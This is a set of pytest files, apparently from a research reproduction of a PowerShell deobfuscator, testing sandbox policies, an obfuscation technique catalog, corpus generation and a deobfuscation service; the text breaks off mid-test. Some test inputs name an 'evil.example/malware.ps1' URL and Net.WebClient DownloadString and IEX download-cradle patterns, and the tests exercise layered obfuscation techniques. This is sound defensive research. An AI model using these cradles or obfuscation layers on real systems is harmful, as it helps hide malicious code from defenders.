        assert audit.denial_counts() == {"command": 1}
        assert audit.events == []

    def test_events_emitted_when_policy_asks(self):
        audit = PolicyAudit(SandboxPolicy(audit_denials=True))
        audit.record("env", "PATH", "deny", "deny_env_reads")
        (event,) = audit.events
        assert event.capability == "env"
        assert event.action == "deny"
        assert event.rule == "deny_env_reads"

    def test_allowed_events_off_by_default(self):
        audit = PolicyAudit(SandboxPolicy(audit_denials=True))
        audit.record("command", "Write-Output", "allow", "default")
        assert audit.events == []

    def test_event_log_is_bounded(self):
        audit = PolicyAudit(
            SandboxPolicy(audit_denials=True), max_events=2
        )
        for index in range(5):
            audit.record("command", f"cmd{index}", "deny", "blocklist")
        assert len(audit.events) == 2
        assert audit.events_dropped == 3
        assert audit.denial_counts() == {"command": 5}  # counters go on

    def test_events_join_the_active_trace(self):
        audit = PolicyAudit(SandboxPolicy(audit_denials=True))
        recorder = SpanRecorder(
            context=TraceContext.new(), process="test"
        )
        activate_recorder(recorder)
        try:
            audit.record("effect", "net.request", "deny",
                         "deny_effects:net.")
        finally:
            deactivate_recorder()
        audit.record("effect", "net.request", "deny", "deny_effects:net.")
        first, second = audit.events
        assert first.trace_id == recorder.trace_id
        assert second.trace_id == ""
        assert first.to_dict()["trace_id"] == recorder.trace_id
        assert "trace_id" not in second.to_dict()

    def test_add_budget_accumulates(self):
        from repro.runtime.limits import ExecutionBudget

        audit = PolicyAudit(SandboxPolicy())
        budget = ExecutionBudget(step_limit=100)
        budget.step()
        budget.step()
        audit.add_budget(budget)
        audit.add_budget(budget)
        assert audit.budget_spent() == {"steps": 4}
