"""The named presets and the one spec-to-policy resolver."""

import pytest

from repro.policy import (
    DEFAULT_POLICY_NAME,
    PRESET_NAMES,
    PRESETS,
    PolicyError,
    RECOVERY_OPEN,
    RECOVERY_STRICT,
    SandboxPolicy,
    VERIFY_OBSERVING,
    WILD_SAMPLE_PARANOID,
    default_policy,
    normalize_policy_name,
    resolve_policy,
)


class TestPresetShapes:
    def test_three_presets_registered(self):
        assert set(PRESET_NAMES) == {
            "recovery-strict", "verify-observing", "wild-sample-paranoid",
        }
        assert DEFAULT_POLICY_NAME in PRESETS

    def test_recovery_strict_is_the_legacy_default(self):
        # The paper's recovery sandbox: blocklist on, engine budgets,
        # nothing audited beyond the always-on denial counters.
        assert RECOVERY_STRICT.enforce_blocklist
        assert RECOVERY_STRICT.step_limit is None
        assert not RECOVERY_STRICT.collect_events
        assert not RECOVERY_STRICT.audit_denials
        # ...and therefore behaviourally identical to a default policy.
        assert RECOVERY_STRICT.canonical_dict() == {}

    def test_verify_observing_watches_instead_of_blocking(self):
        assert not VERIFY_OBSERVING.enforce_blocklist
        assert VERIFY_OBSERVING.collect_events
        assert VERIFY_OBSERVING.audit_denials

    def test_wild_sample_paranoid_is_the_tightest(self):
        p = WILD_SAMPLE_PARANOID
        assert p.enforce_blocklist and p.deny_env_reads
        assert "net." in p.deny_effects and "fs.write" in p.deny_effects
        assert p.step_limit and p.step_limit < 100_000
        assert p.piece_step_limit and p.piece_step_limit < 50_000
        assert p.audit_denials and p.collect_events

    def test_presets_are_distinct_cache_keys(self):
        tokens = {PRESETS[name].cache_token for name in PRESET_NAMES}
        assert len(tokens) == len(PRESET_NAMES)


class TestResolver:
    def test_none_means_default(self):
        assert resolve_policy(None) is RECOVERY_STRICT

    def test_name_resolves_to_shared_instance(self):
        assert resolve_policy("verify-observing") is VERIFY_OBSERVING
        assert resolve_policy("Verify_Observing") is VERIFY_OBSERVING
        assert resolve_policy(" WILD-SAMPLE-PARANOID ") is (
            WILD_SAMPLE_PARANOID
        )

    def test_policy_passes_through(self):
        custom = SandboxPolicy(name="mine", deny_env_reads=True)
        assert resolve_policy(custom) is custom

    def test_dict_resolves_via_from_dict(self):
        policy = resolve_policy({"deny_env_reads": True})
        assert policy.deny_env_reads

    def test_unknown_name_raises(self):
        with pytest.raises(PolicyError, match="unknown policy"):
            resolve_policy("no-such-policy")

    def test_unresolvable_type_raises(self):
        with pytest.raises(PolicyError):
            resolve_policy(42)

    def test_normalize(self):
        assert normalize_policy_name(" Recovery_Strict ") == (
            "recovery-strict"
        )

    def test_default_policy_maps_the_legacy_boolean(self):
        assert default_policy(True) is RECOVERY_STRICT
        assert default_policy(False) is RECOVERY_OPEN
        assert not RECOVERY_OPEN.enforce_blocklist
