"""Tests for the obfuscation toolkit: every technique must round-trip.

Two round trips are checked:

1. **semantic** — string encoders evaluate back to their payload in the
   sandbox; token transforms leave a parseable, equivalent script;
2. **deobfuscation** — the Deobfuscator recovers the payload (for every
   technique except whitespace encoding, the paper's known limitation).
"""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro import deobfuscate
from repro.obfuscation.catalog import (
    TECHNIQUES,
    get_technique,
    positions,
    string_techniques,
    techniques_at_level,
    token_techniques,
)
from repro.obfuscation.layers import (
    encode_command,
    wrap_encoded_command,
    wrap_invoke_expression,
    wrap_layers,
)
from repro.pslang.parser import try_parse
from repro.runtime.evaluator import Evaluator, evaluate_expression_text

PAYLOAD = "write-host hello"

STRING_TECHNIQUES = sorted(t.name for t in string_techniques())
TOKEN_TECHNIQUES = sorted(t.name for t in token_techniques())


class TestCatalog:
    def test_all_table2_rows_present(self):
        expected = {
            "ticking", "whitespacing", "random_case", "random_name",
            "alias", "concat", "reorder", "replace", "reverse",
            "encode_binary", "encode_octal", "encode_ascii", "encode_hex",
            "base64", "whitespace_encoding", "specialchar", "bxor",
            "securestring", "deflate",
        }
        assert expected == set(TECHNIQUES)

    def test_levels(self):
        assert {t.name for t in techniques_at_level(1)} == {
            "ticking", "whitespacing", "random_case", "random_name", "alias"
        }
        assert {t.name for t in techniques_at_level(2)} == {
            "concat", "reorder", "replace", "reverse"
        }
        assert len(techniques_at_level(3)) == 10

    def test_positions(self):
        spots = positions("'a'+'b'")
        assert spots["separate_line"] == "'a'+'b'"
        assert spots["assignment"] == "$fmp = 'a'+'b'"
        assert spots["pipe"] == "'a'+'b' | out-null"


class TestStringEncodersEvaluate:
    @pytest.mark.parametrize("name", STRING_TECHNIQUES)
    def test_encoder_round_trips_semantically(self, name):
        technique = get_technique(name)
        for seed in range(3):
            expression = technique.encode_string(
                PAYLOAD, random.Random(seed)
            )
            ast, error = try_parse(expression)
            assert ast is not None, f"{name}: {error}"
            value = evaluate_expression_text(expression)
            assert value == PAYLOAD, f"{name} seed={seed}"

    @pytest.mark.parametrize("name", STRING_TECHNIQUES)
    def test_encoder_handles_urls(self, name):
        technique = get_technique(name)
        payload = "https://evil.example/malware.ps1"
        expression = technique.encode_string(payload, random.Random(5))
        assert evaluate_expression_text(expression) == payload

    @pytest.mark.parametrize("name", STRING_TECHNIQUES)
    def test_encoder_handles_quotes(self, name):
        technique = get_technique(name)
        payload = "write-host 'quoted arg'"
        expression = technique.encode_string(payload, random.Random(9))
        assert evaluate_expression_text(expression) == payload


class TestTokenTransforms:
    @pytest.mark.parametrize("name", TOKEN_TECHNIQUES)
    def test_transform_output_parses(self, name):
        technique = get_technique(name)
        script = "$data = 'x'; write-host $data"
        obfuscated = technique.apply_to_script(script, random.Random(3))
        ast, error = try_parse(obfuscated)
        assert ast is not None, f"{name}: {error}"

    def test_ticking_inserts_backticks(self):
        result = get_technique("ticking").apply_to_script(
            "New-Object Net.WebClient", random.Random(1)
        )
        assert "`" in result

    def test_random_case_changes_case(self):
        rng = random.Random(2)
        result = get_technique("random_case").apply_to_script(
            "Write-Host $value", rng
        )
        assert result.lower() == "write-host $value".lower()
        assert result != "Write-Host $value"

    def test_whitespacing_only_adds_whitespace(self):
        result = get_technique("whitespacing").apply_to_script(
            PAYLOAD, random.Random(4)
        )
        assert result.replace(" ", "").replace("\t", "") == PAYLOAD.replace(
            " ", ""
        )

    def test_random_name_renames_variables(self):
        result = get_technique("random_name").apply_to_script(
            "$secret = 1; write-host $secret", random.Random(5)
        )
        assert "$secret" not in result

    def test_alias_uses_alias(self):
        result = get_technique("alias").apply_to_script(
            "Invoke-Expression 'x'", random.Random(6)
        )
        assert result.split()[0].lower() in ("iex",)


class TestDeobfuscationRoundTrip:
    """Obfuscate → deobfuscate must recover the payload (except the
    paper's documented whitespace-encoding limitation)."""

    RECOVERABLE = sorted(set(TECHNIQUES) - {"whitespace_encoding"})

    @pytest.mark.parametrize("name", RECOVERABLE)
    def test_round_trip(self, name):
        technique = get_technique(name)
        obfuscated = technique.apply_to_script(PAYLOAD, random.Random(11))
        result = deobfuscate(obfuscated)
        assert "write-host hello" in result.script.lower(), (
            f"{name}: {obfuscated[:80]!r} -> {result.script[:80]!r}"
        )

    def test_whitespace_encoding_defeats_tool_but_runs(self):
        technique = get_technique("whitespace_encoding")
        obfuscated = technique.apply_to_script(PAYLOAD, random.Random(11))
        result = deobfuscate(obfuscated)
        assert "write-host hello" not in result.script.lower()
        evaluator = Evaluator(enforce_blocklist=False)
        evaluator.run_script_text(obfuscated)
        assert evaluator.host.output == ["hello"]


class TestLayers:
    def test_encode_command_is_utf16_base64(self):
        import base64

        blob = encode_command("gci")
        assert base64.b64decode(blob).decode("utf-16-le") == "gci"

    def test_wrap_encoded_command_parses(self):
        wrapped = wrap_encoded_command(PAYLOAD, random.Random(1))
        ast, error = try_parse(wrapped)
        assert ast is not None

    def test_wrap_invoke_expression_forms_execute(self):
        from repro.obfuscation.string_obfuscator import encode_concat

        for seed in range(8):
            rng = random.Random(seed)
            expression = encode_concat(PAYLOAD, rng)
            wrapped = wrap_invoke_expression(expression, rng)
            evaluator = Evaluator(enforce_blocklist=False)
            evaluator.run_script_text(wrapped)
            assert evaluator.host.output == ["hello"], wrapped

    def test_multi_layer_round_trip(self):
        from repro.obfuscation.string_obfuscator import encode_concat

        layered = wrap_layers(
            PAYLOAD, random.Random(17), encode_concat, depth=3
        )
        result = deobfuscate(layered)
        assert "write-host hello" in result.script.lower()


@settings(max_examples=20, deadline=None)
@given(
    payload=st.text(
        alphabet=st.characters(
            min_codepoint=32, max_codepoint=126, blacklist_characters="`"
        ),
        min_size=1,
        max_size=60,
    ),
    seed=st.integers(min_value=0, max_value=2**31),
    name=st.sampled_from(STRING_TECHNIQUES),
)
def test_any_printable_payload_round_trips(payload, seed, name):
    """Property: every string encoder inverts on printable payloads."""
    technique = get_technique(name)
    expression = technique.encode_string(payload, random.Random(seed))
    assert evaluate_expression_text(expression) == payload
