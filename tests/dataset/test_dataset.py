"""Tests for corpus generation and preprocessing (Section IV-B1)."""

import random

import pytest

from repro.analysis import observe_behavior
from repro.dataset import generate_corpus, preprocess
from repro.dataset.generator import generate_sample
from repro.dataset.preprocess import (
    is_valid_sample,
    structure_hash,
)
from repro.dataset.skeletons import SKELETONS, build_skeleton
from repro.pslang.parser import try_parse


class TestSkeletons:
    @pytest.mark.parametrize("name", sorted(SKELETONS))
    def test_clean_scripts_parse(self, name):
        script, _truth = build_skeleton(name, random.Random(1))
        ast, error = try_parse(script)
        assert ast is not None, f"{name}: {error}"

    @pytest.mark.parametrize("name", sorted(SKELETONS))
    def test_ground_truth_matches_behavior(self, name):
        script, truth = build_skeleton(name, random.Random(2))
        report = observe_behavior(script)
        assert report.has_network_behavior == truth.has_network, name

    def test_downloader_url_recoverable(self):
        # URLs may be split across variables (wild behaviour); the
        # deobfuscator must be able to reassemble them.
        from repro import deobfuscate

        script, truth = build_skeleton("downloader", random.Random(3))
        assert truth.urls
        recovered = deobfuscate(script).script
        for url in truth.urls:
            assert url in recovered


class TestGenerator:
    def test_deterministic_for_seed(self):
        first = generate_corpus(10, seed=5)
        second = generate_corpus(10, seed=5)
        assert [s.script for s in first] == [s.script for s in second]

    def test_different_seeds_differ(self):
        first = generate_corpus(10, seed=5)
        second = generate_corpus(10, seed=6)
        assert [s.script for s in first] != [s.script for s in second]

    def test_samples_parse(self):
        for sample in generate_corpus(30, seed=9):
            ast, error = try_parse(sample.script)
            assert ast is not None, f"{sample.identifier}: {error}"

    def test_techniques_recorded(self):
        sample = generate_sample(
            "x", random.Random(4), layer_depth=1, token_count=2
        )
        assert sample.techniques
        assert sample.layers == 1

    def test_clean_script_kept(self):
        sample = generate_sample("x", random.Random(4))
        assert sample.clean_script
        ast, _ = try_parse(sample.clean_script)
        assert ast is not None

    def test_obfuscated_sample_preserves_behavior(self):
        # The generated obfuscation stack must be semantics-preserving.
        for seed in range(8):
            sample = generate_sample(
                f"s{seed}", random.Random(seed), layer_depth=1
            )
            original = observe_behavior(sample.clean_script)
            obfuscated = observe_behavior(sample.script)
            assert (
                original.network_signature == obfuscated.network_signature
            ), (seed, sample.skeleton, sample.techniques)

    def test_junk_fraction(self):
        corpus = generate_corpus(10, seed=1, junk_fraction=0.5)
        assert len(corpus) == 15


class TestValidation:
    def test_valid_script_kept(self):
        ok, reason = is_valid_sample("write-host hello")
        assert ok

    def test_unterminated_rejected(self):
        ok, reason = is_valid_sample("'unterminated")
        assert not ok
        assert "tokenize" in reason or "parse" in reason

    def test_html_rejected(self):
        ok, reason = is_valid_sample("<html><body>hi</body></html>")
        assert not ok

    def test_single_string_rejected(self):
        ok, reason = is_valid_sample("'just a string'")
        assert not ok
        assert reason == "single string token"

    def test_unknown_commands_rejected(self):
        ok, reason = is_valid_sample("Frobnicate-Wildly now")
        assert not ok
        assert reason == "all commands unknown"

    def test_alias_command_is_known(self):
        ok, _ = is_valid_sample("iex 'x'")
        assert ok


class TestStructureDedup:
    def test_same_structure_different_strings(self):
        first = "(New-Object Net.WebClient).DownloadString('http://a/')"
        second = "(New-Object Net.WebClient).DownloadString('http://b/')"
        assert structure_hash(first) == structure_hash(second)

    def test_different_structure(self):
        first = "write-host 'x'"
        second = "write-output 'x'"
        assert structure_hash(first) != structure_hash(second)

    def test_case_insensitive_structure(self):
        assert structure_hash("Write-Host 'a'") == structure_hash(
            "WRITE-HOST 'b'"
        )


class TestPreprocessPipeline:
    def test_pipeline_counts(self):
        corpus = generate_corpus(
            30, seed=11, duplicate_fraction=0.3, junk_fraction=0.2
        )
        kept, stats = preprocess(corpus)
        assert stats.input_count == len(corpus)
        assert stats.kept == len(kept)
        dropped = stats.input_count - stats.kept
        assert dropped == (
            stats.invalid_syntax
            + stats.no_tokens
            + stats.unknown_commands
            + stats.invalid_command_chars
            + stats.single_string
            + stats.duplicates
        )
        assert stats.kept >= 30 * 0.8  # real samples mostly survive

    def test_junk_is_dropped(self):
        corpus = generate_corpus(5, seed=3, junk_fraction=1.0)
        kept, stats = preprocess(corpus)
        assert all(s.skeleton != "junk" for s in kept)

    def test_exact_duplicates_removed(self):
        corpus = generate_corpus(5, seed=4)
        doubled = corpus + corpus
        kept, stats = preprocess(doubled)
        assert stats.duplicates >= len(corpus)
