"""Concurrency and fault tests for the ``repro serve`` service.

The headline scenario mirrors the PR's acceptance criterion: a
2-worker fleet under 100 concurrent HTTP requests spread over 10
unique scripts must answer everything correctly with ≥ 90% of requests
avoiding a pipeline execution — proven exactly-once per unique hash by
a cross-process execution counter, not just by counters the service
keeps about itself.  The rest covers the failure modes a long-running
service must survive: hostile hanging scripts (timeout-kill + worker
respawn), admission overflow (429 + Retry-After), crashing workers,
and graceful drain.
"""

import json
import threading
import urllib.error
import urllib.request

import pytest

from repro.service import (
    DeobfuscationService,
    ServiceConfig,
    ServiceUnavailable,
    start_server,
)
from tests.service.helpers import (
    COUNTER_ENV,
    CRASH_MARKER,
    LOOP_MARKER,
    SLEEP_MARKER,
)

COUNTING = "tests.service.helpers:counting_worker"


def make_service(**overrides):
    defaults = dict(jobs=2, timeout=10.0, kill_grace=0.3, queue_limit=64)
    defaults.update(overrides)
    return DeobfuscationService(ServiceConfig(**defaults))


def post(url, body, timeout=30.0):
    """POST JSON; return (status_code, decoded_body, headers)."""
    request = urllib.request.Request(
        url + "/deobfuscate",
        data=json.dumps(body).encode("utf-8"),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            return response.status, json.loads(response.read()), dict(
                response.headers
            )
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read()), dict(error.headers)


def get(url, path, timeout=10.0):
    try:
        with urllib.request.urlopen(url + path, timeout=timeout) as response:
            return response.status, response.read().decode("utf-8")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode("utf-8")


def metric_value(metrics_text, name):
    for line in metrics_text.splitlines():
        if line.startswith(name + " ") or line.startswith(name + "{"):
            return float(line.rsplit(" ", 1)[1])
    raise AssertionError(f"metric {name} not found")


@pytest.fixture
def served():
    """A running service + HTTP server; yields (service, base_url)."""
    servers = []

    def make(**overrides):
        service = make_service(**overrides)
        server, thread = start_server(service)
        servers.append((service, server, thread))
        host, port = server.server_address[:2]
        return service, f"http://{host}:{port}"

    yield make
    for service, server, thread in servers:
        server.shutdown()
        thread.join(timeout=5.0)
        server.server_close()
        service.close()


class TestLoadAndSingleFlight:
    def test_100_concurrent_over_10_unique(self, served, tmp_path,
                                           monkeypatch):
        counter = tmp_path / "executions.log"
        monkeypatch.setenv(COUNTER_ENV, str(counter))
        _service, url = served(worker=COUNTING)

        scripts = [
            f"I`E`X ('wri'+'te-host u{index}')" for index in range(10)
        ]
        results = [None] * 100
        barrier = threading.Barrier(100)

        def one(slot):
            barrier.wait(timeout=30.0)
            results[slot] = post(url, {"script": scripts[slot % 10]})

        threads = [
            threading.Thread(target=one, args=(slot,))
            for slot in range(100)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60.0)

        # zero dropped responses, all correct
        assert all(result is not None for result in results)
        assert all(code == 200 for code, _body, _h in results)
        for slot, (_code, body, _headers) in enumerate(results):
            assert body["status"] == "ok"
            assert body["script"].strip() == f"Write-Host u{slot % 10}"

        # exactly-once per unique hash, proven across processes
        executions = counter.read_text().splitlines()
        assert len(executions) == 10

        # >= 90% of requests avoided a pipeline execution
        _status, metrics = get(url, "/metrics")
        assert metric_value(metrics, "repro_service_requests_total") == 100
        assert metric_value(
            metrics, "repro_service_cache_hit_ratio"
        ) >= 0.9
        assert metric_value(
            metrics, "repro_service_queue_depth"
        ) == 0

    def test_coalesced_join_shares_leader_result(self, served, tmp_path,
                                                 monkeypatch):
        counter = tmp_path / "executions.log"
        monkeypatch.setenv(COUNTER_ENV, str(counter))
        _service, url = served(worker=COUNTING)

        script = f"# {SLEEP_MARKER}\nwrite-host slow"
        outcomes = []
        barrier = threading.Barrier(4)

        def one():
            barrier.wait(timeout=10.0)
            outcomes.append(post(url, {"script": script}))

        threads = [threading.Thread(target=one) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30.0)

        assert len(counter.read_text().splitlines()) == 1
        assert all(code == 200 for code, _b, _h in outcomes)
        coalesced = [b for _c, b, _h in outcomes if b["coalesced"]]
        executed = [
            b for _c, b, _h in outcomes
            if not b["coalesced"] and not b["cache_hit"]
        ]
        assert len(executed) == 1
        assert len(coalesced) == 3
        assert {b["script"] for _c, b, _h in outcomes} == {
            executed[0]["script"]
        }


class TestHostileInputs:
    def test_hanging_script_killed_and_fleet_recovers(self, served):
        service, url = served(worker=COUNTING, timeout=0.5, kill_grace=0.2)
        code, body, _headers = post(
            url, {"script": f"# {LOOP_MARKER}\nwhile ($true) {{ }}"}
        )
        assert code == 200
        assert body["status"] == "timeout"
        assert body["graceful"] is False
        assert service.pool.restarts["timeout"] == 1

        # timeouts are not cached: resubmission re-executes
        code, body, _headers = post(
            url, {"script": f"# {LOOP_MARKER}\nwhile ($true) {{ }}"}
        )
        assert body["cache_hit"] is False

        # the fleet respawned; normal work still flows
        code, body, _headers = post(url, {"script": "write-host alive"})
        assert code == 200
        assert body["status"] == "ok"

        _status, metrics = get(url, "/metrics")
        assert metric_value(
            metrics,
            'repro_service_worker_restarts_total{reason="timeout"}',
        ) >= 2

    def test_crashing_worker_yields_500_and_restart_count(self, served):
        service, url = served(worker=COUNTING, retries=0)
        code, body, _headers = post(
            url, {"script": f"# {CRASH_MARKER}\nwrite-host boom"}
        )
        assert code == 500
        assert body["status"] == "error"
        assert "died" in body["error"]
        assert service.pool.restarts["crash"] >= 1
        # errors are not cached
        code, body, _headers = post(url, {"script": "write-host fine"})
        assert code == 200

    def test_bad_requests_rejected(self, served):
        _service, url = served()
        code, body, _headers = post(url, {"no_script": True})
        assert code == 400
        code, body, _headers = post(url, {"script": "x", "timeout": "soon"})
        assert code == 400
        status, _body = get(url, "/nope")
        assert status == 404


class TestBackpressure:
    def test_queue_overflow_returns_429_with_retry_after(self, served):
        _service, url = served(
            worker=COUNTING, jobs=1, queue_limit=1, timeout=5.0
        )
        responses = []
        barrier = threading.Barrier(6)

        def one(index):
            barrier.wait(timeout=10.0)
            responses.append(
                post(url, {"script": f"# {SLEEP_MARKER}\nwrite-host {index}"})
            )

        threads = [
            threading.Thread(target=one, args=(index,))
            for index in range(6)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30.0)

        codes = sorted(code for code, _b, _h in responses)
        assert 429 in codes, codes
        assert len(responses) == 6
        rejected = [
            (body, headers)
            for code, body, headers in responses
            if code == 429
        ]
        for body, headers in rejected:
            assert headers.get("Retry-After")
            assert "queue full" in body["error"]
        # everything admitted completed fine
        assert all(
            body["status"] == "ok"
            for code, body, _h in responses
            if code == 200
        )

    def test_in_process_rejection_counter(self):
        with make_service(jobs=1, queue_limit=0) as service:
            with pytest.raises(ServiceUnavailable):
                service.submit("write-host hi")
            assert service.counters["rejected"] == 1


class TestDrainAndHealth:
    def test_healthz_reports_version_and_fleet(self, served):
        from repro import package_version

        _service, url = served()
        status, body = get(url, "/healthz")
        health = json.loads(body)
        assert status == 200
        assert health["status"] == "ok"
        assert health["version"] == package_version()
        assert health["jobs"] == 2
        assert health["queue_limit"] == 64

    def test_drain_rejects_then_finishes_clean(self, served):
        service, url = served()
        code, body, _headers = post(url, {"script": "write-host pre"})
        assert code == 200

        service.begin_drain()
        code, body, _headers = post(url, {"script": "write-host late"})
        assert code == 503
        assert body["error"] == "draining"
        status, body = get(url, "/healthz")
        assert status == 503
        assert json.loads(body)["status"] == "draining"

        assert service.drain(timeout=10.0) is True
        _status, metrics = get(url, "/metrics")
        assert metric_value(metrics, "repro_service_draining") == 1

    def test_drain_waits_for_inflight_work(self):
        service = make_service(worker=COUNTING, jobs=1).start()
        results = []
        thread = threading.Thread(
            target=lambda: results.append(
                service.submit(f"# {SLEEP_MARKER}\nwrite-host slow")
            )
        )
        thread.start()
        # wait until the request is admitted, then drain
        for _ in range(200):
            if service.queue_depth > 0:
                break
            threading.Event().wait(0.01)
        assert service.drain(timeout=15.0) is True
        thread.join(timeout=15.0)
        assert results and results[0]["status"] == "ok"
        service.close()


class TestResultFidelity:
    def test_matches_direct_deobfuscate(self, served):
        from repro import Deobfuscator

        _service, url = served()
        script = "$a = 'wri'+'te-host'; I`E`X ($a + ' same')"
        _code, body, _headers = post(url, {"script": script})
        direct = Deobfuscator().deobfuscate(script)
        assert body["script"] == direct.script
        assert body["iterations"] == direct.iterations

    def test_stats_embedded_only_on_request(self, served):
        _service, url = served()
        _code, body, _h = post(url, {"script": "write-host a"})
        assert "stats" not in body
        _code, body, _h = post(
            url, {"script": "write-host a", "stats": True}
        )
        assert body["stats"]["schema_version"] >= 1

    def test_options_partition_results(self, served):
        _service, url = served()
        script = "$longVariableName = 'a'+'b'; write-host $longVariableName"
        _c, with_rename, _h = post(url, {"script": script})
        _c, without, _h = post(url, {"script": script, "rename": False})
        assert with_rename["cache_key"] != without["cache_key"]
        assert without["cache_hit"] is False


class TestPolicyOption:
    def test_policy_partitions_the_cache(self, served):
        _service, url = served()
        script = "$a = 'a'+'b'; write-host $a"
        _c, default, _h = post(url, {"script": script})
        _c, paranoid, _h = post(
            url, {"script": script, "policy": "wild-sample-paranoid"}
        )
        assert default["cache_key"] != paranoid["cache_key"]
        assert paranoid["cache_hit"] is False
        # The default preset spelled out is the same request as no
        # policy at all — byte-identical cache key, so it's a hit.
        _c, spelled, _h = post(
            url, {"script": script, "policy": "Recovery_Strict"}
        )
        assert spelled["cache_key"] == default["cache_key"]
        assert spelled["cache_hit"] is True

    def test_policy_shows_up_in_stats_and_metrics(self, served):
        _service, url = served()
        # An $env: probe: denied (and counted) only under the paranoid
        # preset.
        script = "write-host $env:COMPUTERNAME"
        _c, body, _h = post(
            url,
            {"script": script, "policy": "wild-sample-paranoid",
             "stats": True},
        )
        assert body["stats"]["policy"] == "wild-sample-paranoid"
        assert body["stats"]["policy_denials"].get("env", 0) >= 1
        _code, metrics = get(url, "/metrics")
        assert metric_value(
            metrics, 'repro_policy_denials_total{capability="env"}'
        ) >= 1

    def test_unknown_policy_is_a_400(self, served):
        _service, url = served()
        code, body, _h = post(
            url, {"script": "write-host x", "policy": "no-such"}
        )
        assert code == 400
        assert "unknown policy" in body["error"]
        code, body, _h = post(
            url, {"script": "write-host x", "policy": 42}
        )
        assert code == 400


class TestLanguageOption:
    def test_js_request_end_to_end(self, served):
        _service, url = served()
        script = "eval('conso' + 'le.log(\\'hi\\');');"
        code, body, _h = post(
            url, {"script": script, "language": "javascript"}
        )
        assert code == 200
        assert body["script"] == "console.log('hi');"
        # The language partitions the cache: the same bytes under the
        # default (PowerShell) front end are a different entry.
        _c, as_powershell, _h = post(url, {"script": script})
        assert body["cache_key"] != as_powershell["cache_key"]

    def test_unknown_language_is_a_400(self, served):
        _service, url = served()
        code, body, _h = post(
            url, {"script": "console.log(1);", "language": "cobol"}
        )
        assert code == 400
        assert "unknown language" in body["error"]
        assert "powershell" in body["languages"]
        assert "js" in body["languages"]

    def test_requests_counted_by_language(self, served):
        _service, url = served()
        post(url, {"script": "write-host hi"})
        post(url, {"script": "console.log(1);", "language": "js"})
        _code, metrics = get(url, "/metrics")
        assert metric_value(
            metrics,
            'repro_service_requests_by_language_total'
            '{language="powershell"}',
        ) == 1
        assert metric_value(
            metrics,
            'repro_service_requests_by_language_total{language="js"}',
        ) == 1
        # The unlabeled total is untouched by the new family.
        assert metric_value(
            metrics, "repro_service_requests_total"
        ) == 2
