"""Service-side tracing and histogram-metrics tests.

The acceptance scenario: one POST /deobfuscate with tracing enabled
yields a single exported trace covering request admission → cache
lookup → worker execution → the pipeline phases, all sharing one
trace_id across the process boundary — plus latency histograms whose
buckets carry slow-request trace exemplars.
"""

import json
import urllib.error
import urllib.request

import pytest

from repro.obs.export import (
    read_raw_lines,
    read_spans,
    render_waterfall,
    validate_spans,
)
from repro.obs.hist import Histogram
from repro.obs.trace import TraceContext
from repro.service import DeobfuscationService, ServiceConfig, start_server
from repro.service.metrics import render_metrics

SCRIPT = "I`E`X ('wri'+'te-host hi')\n$a = 'mal'+'ware'\n"


def make_service(tmp_path, **overrides):
    defaults = dict(
        jobs=1,
        timeout=20.0,
        queue_limit=16,
        trace_path=str(tmp_path / "trace.jsonl"),
    )
    defaults.update(overrides)
    return DeobfuscationService(ServiceConfig(**defaults))


@pytest.fixture
def traced_service(tmp_path):
    service = make_service(tmp_path)
    service.start()
    yield service, str(tmp_path / "trace.jsonl")
    service.close()


class TestEndToEndTrace:
    def test_one_request_exports_one_linked_trace(self, traced_service):
        service, trace_path = traced_service
        record = service.submit(SCRIPT)
        assert record["status"] == "ok"
        trace_id = record["trace_id"]
        assert len(trace_id) == 32

        spans = read_spans(trace_path)
        assert {s.trace_id for s in spans} == {trace_id}
        names = {s.name for s in spans}
        assert {
            "request", "cache_lookup", "admission", "execute",
            "worker", "pipeline",
        } <= names
        assert {"token", "ast", "multilayer"} <= names
        assert {s.process for s in spans} == {"service", "worker"}
        assert validate_spans(read_raw_lines(trace_path)) == []

        # The worker span nests under the service's execute span.
        by_id = {s.span_id: s for s in spans}
        worker = next(s for s in spans if s.name == "worker")
        assert by_id[worker.parent_span_id].name == "execute"
        pipeline = next(s for s in spans if s.name == "pipeline")
        assert by_id[pipeline.parent_span_id].name == "worker"

        rendered = render_waterfall(spans)
        assert f"trace {trace_id}" in rendered
        assert "worker" in rendered and "request" in rendered

    def test_traceparent_joins_the_callers_trace(self, traced_service):
        service, trace_path = traced_service
        caller = TraceContext.new()
        record = service.submit(SCRIPT, trace=caller)
        assert record["trace_id"] == caller.trace_id
        spans = read_spans(trace_path)
        assert {s.trace_id for s in spans} == {caller.trace_id}
        request = next(s for s in spans if s.name == "request")
        assert request.parent_span_id == caller.span_id
        # The remote parent is outside the file; validation still holds.
        assert validate_spans(read_raw_lines(trace_path)) == []

    def test_cached_responses_get_fresh_request_traces(
        self, traced_service
    ):
        service, trace_path = traced_service
        first = service.submit(SCRIPT)
        second = service.submit(SCRIPT)
        assert second["cache_hit"] is True
        assert "trace_spans" not in second
        assert second["trace_id"] != first["trace_id"]
        hit_spans = [
            s for s in read_spans(trace_path)
            if s.trace_id == second["trace_id"]
        ]
        names = {s.name for s in hit_spans}
        assert "request" in names and "cache_lookup" in names
        assert "worker" not in names  # no execution happened

    def test_record_in_cache_stays_free_of_trace_spans(
        self, traced_service
    ):
        service, _ = traced_service
        service.submit(SCRIPT)
        cached = service.submit(SCRIPT)
        assert "trace_spans" not in cached

    def test_untraced_service_still_mints_trace_ids(self, tmp_path):
        service = make_service(tmp_path, trace_path=None)
        service.start()
        try:
            record = service.submit(SCRIPT)
            assert len(record["trace_id"]) == 32
        finally:
            service.close()


class TestHistogramsUnderLoad:
    def test_pipeline_histogram_fills_distinct_buckets(self, tmp_path):
        import random

        from repro.dataset.generator import generate_sample

        service = make_service(tmp_path, trace_path=None)
        service.start()
        try:
            # A trivial script and a heavy multi-layer sample land in
            # different latency buckets.
            service.submit("Write-Host hi\n")
            heavy = generate_sample(
                "heavy", random.Random(5), layer_depth=2
            )
            service.submit(heavy.script, timeout=30.0)
            snapshot = service.metrics_snapshot()
        finally:
            service.close()

        hist = Histogram.from_dict(
